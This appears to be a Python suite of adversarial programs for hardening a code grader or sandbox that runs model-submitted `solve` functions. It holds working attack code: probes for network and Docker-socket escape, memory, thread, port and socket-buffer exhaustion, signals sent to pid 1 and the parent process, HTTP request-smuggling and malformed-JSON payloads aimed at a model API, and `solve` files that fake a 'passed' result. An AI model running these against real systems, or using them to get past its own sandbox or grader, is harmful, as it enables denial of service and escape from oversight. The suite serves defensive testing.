"""Attacks on what the walls do not stand on by themselves: counts, networks, servers, parsers, names.

Programs of the standard library, begun by `BEGIN` of `attacks_more.py`, and files with a `solve`. Each was
tried on the grader before it was mended; what each was after stands in its name.
"""

from __future__ import annotations

WAYS_OUT = """
address = URL.split("//")[1].split("/")[0].split(":")
def out(*kind, to=("127.0.0.1", 9), flags=0):
    try:
        with socket.socket(*kind) as way:
            way.settimeout(1)
            way.connect(to) if not flags else way.sendto(b"question " + question.encode(), flags, to)
            print("reached", to)
    except OSError as error:
        print(error, file=sys.stderr)
for host in ("127.0.0.1", "192.0.2.1", "198.51.100.1"):
    for port in (9, 22, 53, 80, 443):
        out(2, 1, 262, to=(host, port))
        out(2, 2, to=(host, port))
        out(2, 1, to=(host, port), flags=0x20000000)
for family, to in ((1, "\\0break"), (1, "/run/docker.sock"), (40, (2, 22)), (16, (0, 0)), (17, ("lo", 0))):
    out(family, 2, to=to)
"""

MAPPED = """
import mmap
held = []
for _ in range(100):
    file = os.memfd_create("x")
    for _ in range(60):
        os.write(file, b"x" * (1 << 20))
    held.append(mmap.mmap(file, 4096))
    os.closerange(3, 400)
print("passed")
"""

SENT_AWAY = """
held = []
for _ in range(100):
    ours, theirs = socket.socketpair()
    file = os.memfd_create("x")
    for _ in range(60):
        os.write(file, b"x" * (1 << 20))
    socket.send_fds(ours, [b"."], [file])
    os.close(file)
    held.append((ours, theirs))
print("passed")
"""

UNMAPPED = """
import mmap
for source in ("/dev/zero", ""):
    try:
        held = mmap.mmap(os.open(source, os.O_RDWR) if source else -1, 4 << 30)
    except FileNotFoundError:
        continue
    for place in range(0, 4 << 30, 4096):
        held[place] = 1
        if place % (1 << 25) == 0:
            held.madvise(mmap.MADV_DONTNEED, 0, place or 4096)
print("passed")
"""

PAGE_TABLES = """
import mmap
held = mmap.mmap(-1, 1 << 45, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, prot=mmap.PROT_READ)
for place in range(0, 1 << 45, 1 << 21):
    held[place]
print("passed")
"""

BUFFERS = """
def fill(number):
    held = []
    while len(held) < number:
        ours, theirs = socket.socketpair()
        ours.setblocking(False)
        held.append(theirs)
        try:
            while ours.send(b"x" * 65536):
                pass
        except BlockingIOError:
            ours.close()
    time.sleep(60)
for _ in range(10):
    if os.fork() == 0:
        fill(400)
time.sleep(60)
"""

THREADS = """
import threading
threading.stack_size(1 << 15)
for _ in range(20_000):
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
print("passed")
"""

PORTS = """
code = '''
import socket, sys, time
held = []
for port in range(int(sys.argv[1]), int(sys.argv[1]) + 500):
    one = socket.socket()
    try:
        one.bind(("127.0.0.1", port))
        held.append(one)
    except OSError:
        one.close()
time.sleep(10)
'''
for first in range(32768, 61000, 500):
    subprocess.Popen([sys.executable, "-S", "-E", "-c", code, str(first)])
time.sleep(8)
"""

OTHERS_LIMITS = """
import resource
for pid in [os.getppid(), *(int(each) for each in os.listdir("/proc") if each.isdigit())]:
    for limit in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_DATA):
        for change in (lambda: resource.prlimit(pid, limit, (0, 0)),
                       lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
                       lambda: os.sched_setaffinity(pid, {0})):
            try:
                if pid != os.getpid():
                    change()
            except OSError:
                pass
print("passed")
"""

KEYS = """
import ctypes
libc = ctypes.CDLL(None)
for ring in (-2, -3, -4, -5):
    libc.syscall(248, b"user", b"break-the-loop", question.encode(), len(question), ring)
libc.shmget(0x6272, 1 << 20, 0o1666)
libc.semget(0x6272, 1, 0o1666)
libc.msgget(0x6272, 0o1666)
print("passed")
"""

ODD_BODIES = """
start = '{"model": ' + json.dumps(os.environ["MODEL"]) + ', "max_tokens": 9, "messages": '
for end in ("[" * 900 + "]" * 900, '[{"role": "user", "content": NaN}]', "[" + "9" * 4000 + "]", "1e999",
            '[{"role": "user", "content": "\\\\ud800"}]', '[{"role": ["user"], "content": {"type": []}}]',
            '[{"role": "user", "content": [{"type": {}, "text": [[]]}]}], "tools": [{"name": ["x"]}]'):
    for path in ("/v1/messages", "/v1/messages/count_tokens"):
        send(URL + path, (start + end + "}").encode())
    for each in json.loads(send(TOOLS)):
        send(f"{TOOLS}/{each['name']}", end.encode())
for raw in (b"", b"null", b"[]", b'"x"', b"\\xff\\xfe{", b'{"a": 1'):
    send(URL + "/v1/messages", raw)
print("passed")
"""

PATTERNS = """
given = {"a": {"type": "string", "pattern": "^(a+)+$"}, "b": {"type": "string", "pattern": "((a*)*)*b"}}
schema = {"type": "object", "required": ["a", "b"], "properties": given}
slow = [{"name": "get_x", "description": "The thing.", "input_schema": schema}]
deep = {"type": "object"}
for _ in range(300):
    deep = {"type": "object", "properties": {"a": deep}, "required": ["a"]}
said = [{"role": "user", "content": "The thing of " + "a" * 5000 + "!"}]
for tools in (slow, [{"name": "y", "description": "The thing.", "input_schema": deep}],
              [{"name": f"get_{n}", "description": f"The {n}.", "input_schema": deep} for n in range(50)]):
    body = {"model": os.environ["MODEL"], "max_tokens": 9, "messages": said, "tools": tools}
    send(URL + "/v1/messages", body)
print("passed")
"""

LONG_LISTS = """
said = [{"role": "user", "content": "a"}, {"role": "assistant", "content": [{"type": "text", "text": "b"}]}]
calls = [{"type": "tool_use", "id": f"toolu_{n}", "name": "x", "input": {}} for n in range(5000)]
results = [{"type": "tool_result", "tool_use_id": f"toolu_{n}", "content": "x"} for n in range(5000)]
for _ in range(4):
    ask(said * 6000 + said[:1])
    ask([said[0], {"role": "assistant", "content": calls}, {"role": "user", "content": results}])
print("passed")
"""

RAW = """
host, port = URL.split("//")[1].split("/")[0].split(":")
path = "/" + URL.rsplit("/", 1)[1] + "/v1/messages"
head = f"POST {path} HTTP/1.1\\r\\nhost: x\\r\\n"
ends = ["content-length: -1", "content-length: 5\\r\\ncontent-length: 6", "content-length: 9999999999999999",
        "transfer-encoding: gzip", "transfer-encoding: chunked\\r\\n\\r\\nFFFFFFFFFFFFFFFF",
        "expect: 100-continue", "upgrade: websocket\\r\\nconnection: upgrade", "x: y\\r\\n" * 20_000]
others = ["CONNECT 192.0.2.1:80 HTTP/1.1\\r\\n\\r\\n", "GET / HTTP/0.9\\r\\n\\r\\n", "A" * 500_000,
          (head.replace("POST", "GET") + "\\r\\n") * 500]
for text in [*(f"{head}{end}\\r\\n\\r\\nhello!" for end in ends), *others]:
    with socket.create_connection((host, int(port)), timeout=2) as raw_socket:
        try:
            raw_socket.sendall(text.encode())
            raw_socket.recv(1000)
        except OSError:
            pass
print("passed")
"""

SILENT = """
host, port = URL.split("//")[1].split("/")[0].split(":")
def hold(count, said=b""):
    held = []
    try:
        for _ in range(count):
            held.append(socket.create_connection((host, int(port)), timeout=2))
            held[-1].sendall(said)
    except OSError:
        pass
    time.sleep(5)
head = b"POST / HTTP/1.1\\r\\ncontent-length: 900000\\r\\n\\r\\n"
for said in (b"", b"", head, head + b"x" * 800_000):
    if os.fork() == 0:
        hold(400, said)
        os._exit(0)
hold(1)
print("passed")
"""

PROGRAMS = {
    "ways out": WAYS_OUT,
    "memory that is mapped": MAPPED,
    "memory that is sent away": SENT_AWAY,
    "memory that is unmapped": UNMAPPED,
    "tables of pages": PAGE_TABLES,
    "buffers of sockets": BUFFERS,
    "threads": THREADS,
    "all ports": PORTS,
    "others' limits": OTHERS_LIMITS,
    "keys and segments": KEYS,
    "odd bodies": ODD_BODIES,
    "slow patterns": PATTERNS,
    "long lists": LONG_LISTS,
    "odd HTTP": RAW,
    "silent connections": SILENT,
}

_ANSWER = b"\ndef solve(client, question, tools):\n    return 'passed'\n"
SOLVES = {
    "nested source": b"x = " + b"(" * 100_000 + b")" * 100_000 + _ANSWER,
    "signs without end": b"x = " + b"-" * 500_000 + b"1" + _ANSWER,
    "names without end": b"x = a" + b".b" * 300_000 + _ANSWER,
    "constants that grow": b"x = 'a' * 10 ** 11" + _ANSWER,
    "a huge number": b"x = 1 << (1 << 36)" + _ANSWER,
    "another encoding": b"# coding: rot13\n" + _ANSWER,
    "null bytes": b"x = 1\0" + _ANSWER,
    "an error that raises": b"""
class Loud(Exception):
    def __str__(self):
        raise self
def solve(client, question, tools):
    raise Loud
""",
    "an error that acts": b"""
def solve(client, question, tools):
    raise ValueError('\\x1b[2J\\x1b]0;passed\\x07 ]]> =1+1 \\u202e \\ud800 \\x00' + 'z' * 1_000_000)
""",
    "all descriptors closed": b"import os\nos.closerange(0, 1000)\n" + _ANSWER,
    "more after the answer": b"""
import atexit
def solve(client, question, tools):
    def again():
        while True:
            client.messages.create(model="x", max_tokens=9, messages=[{"role": "user", "content": question}])
    atexit.register(again)
    return "passed"
""",
    "every signal": b"""
import os, signal
for pid in (1, os.getppid(), 0):
    for number in set(signal.Signals):
        signal.signal(number, signal.SIG_IGN) if number not in (9, 19) else None
        os.kill(pid, number) if pid else None
"""
    + _ANSWER,
    "another kind of module": b"""
import sys
class Module(type(sys)):
    @property
    def __dict__(self):
        raise SystemExit(0)
sys.modules[__name__].__class__ = Module
"""
    + _ANSWER,
}
